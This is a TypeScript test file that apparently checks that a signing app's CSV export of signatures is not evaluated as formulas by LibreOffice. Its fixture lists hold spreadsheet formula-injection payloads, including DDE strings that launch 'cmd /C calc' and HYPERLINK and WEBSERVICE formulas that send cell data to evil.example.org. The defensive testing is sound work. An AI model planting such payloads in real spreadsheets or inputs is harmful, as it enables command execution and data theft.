import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { pathToFileURL } from 'node:url';
import readWorkbook from 'read-excel-file/node';
import { readCell } from '../../../src/cli/build/table/cell.ts';
import { readNames } from '../../../src/cli/serve/live-letter.ts';
import { foldWritten } from '../../../src/feed/written-text.ts';
import { exportSignatures } from '../../../src/server/export/signatures.ts';
import { letterId, openVisitors, signing } from '../../support/server/signing.ts';
import { openSqliteStore } from '../../support/server/stores.ts';
import { makeFolder, removeFolder } from '../../support/temporary-folder.ts';

const noOffice =
  spawnSync('soffice', ['--version']).status !== 0 &&
  'LibreOffice is not installed: apt-get install libreoffice-calc-nogui';

/** What its window proposes for a table that begins with a mark of UTF-8; without a window it looks for no mark. */
const commaUtf8 = '--infilter=Text - txt - csv (StarCalc):44,34,76,1';

/** What people call themselves who mean a spreadsheet no good, and what spreadsheets make of the names of others. */
const names = [
  ...['=1+1', '+4712345678', '-', "'=1+1", "''=1+1", '＝1+1', '\t=1+1', '\r=1+1'],
  ...["-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"A1")'],
  ...['=HYPERLINK("#A1","Ana")', '=WEBSERVICE(A1&A2)'],
  ...['Ana\t=1+1', 'Ana\r\n=1+1', 'Ana;=1+1', 'Ana,=1+1', 'Ana "=1+1"', '"=1+1"', 'Ana ""Bird"", Berg'],
  ...['شجرة الدردار', 'أحمد (=1+1)', 'עץ; =1', '🌳🌳', '👩‍🌾 Ana', 'Åsa “Ek”'],
  ...['007', '1984', '1E5', '1,5', '1.5', '3/4', '1-2', '12:30', '100%'],
];

/** What is no name, and may be an answer that is never public. */
const answers = [
  ...names,
  ...['=HYPERLINK("https://evil.example.org/?x="&A1,"Ana")', '=WEBSERVICE("https://evil.example.org/")'],
  ...['0470123456', '12345678901234567890'],
];

describe('a spreadsheet program', { skip: noOffice }, () => {
  it('calculates no cell of an exported table, and what it saves is read back name by name', async (t) => {
    const folder = makeFolder('spreadsheet');
    const visitors = await openVisitors(openSqliteStore);
    t.after(async () => {
      await visitors.test.close();
      removeFolder(folder);
    });
    const { store } = visitors.test;
    const everyone = names.map((name, index) => ({
      ...{ id: `id-${index}`, name, type: 'person' as const, comment: name },
      signed_at: '2026-11-25',
    }));
    await store.importOnce(letterId, 'en', { published: everyone, unnamed: 1 });
    for (const [index, answer] of answers.entries()) {
      const signed = signing(visitors.test, 'Bo', `bo-${index}@example.org`);
      await store.sign({ ...signed, details: JSON.stringify({ answer }) });
    }
    const table = join(folder, 'everyone.csv');
    let text = '';
    const wanted = { format: 'csv', state: undefined, isPrivate: true } as const;
    for await (const piece of exportSignatures(store, letterId, wanted, 'terminal')) text += piece;
    writeFileSync(table, text);

    const saved = (kind: string): string => {
      const out = join(folder, kind);
      const home = `-env:UserInstallation=${pathToFileURL(join(folder, 'office')).href}`;
      const how = [home, '--headless', commaUtf8, '--convert-to', kind, '--outdir', out, table];
      const ran = spawnSync('soffice', how);
      assert.equal(ran.status, 0, ran.stderr.toString());
      return join(out, `everyone.${kind}`);
    };
    const opened = readFileSync(saved('fods'), 'utf8');
    assert((opened.match(/<table:table-row /g)?.length ?? 0) > 2 * names.length, 'the table was opened');
    assert.deepEqual(opened.match(/table:formula="[^"]*"/g), null);
    assert.doesNotMatch(opened, /<text:a |<table:dde-link/);

    const said = names.map((name) => foldWritten(name));
    for (const file of [table, saved('xlsx'), saved('csv')]) {
      const { published, unnamed } = await readNames(file, () => undefined);
      assert.deepEqual(
        published.map(({ name, comment }) => [name, comment]),
        said.map((name) => [name, name]),
        file,
      );
      assert.deepEqual(new Set(published.map(({ signed_at }) => signed_at)), new Set(['2026-11-25']));
      assert.equal(unnamed, 1);
    }
    const [[headings, ...rows] = []] = (await readWorkbook(saved('xlsx'))).map(({ data }) => data);
    const column = headings?.indexOf('custom data answer') ?? -1;
    assert.deepEqual(
      new Set(rows.map((row) => readCell(String(row[column] ?? '')).text)),
      new Set(['', ...answers.map((answer) => foldWritten(answer))]),
    );
  });
});
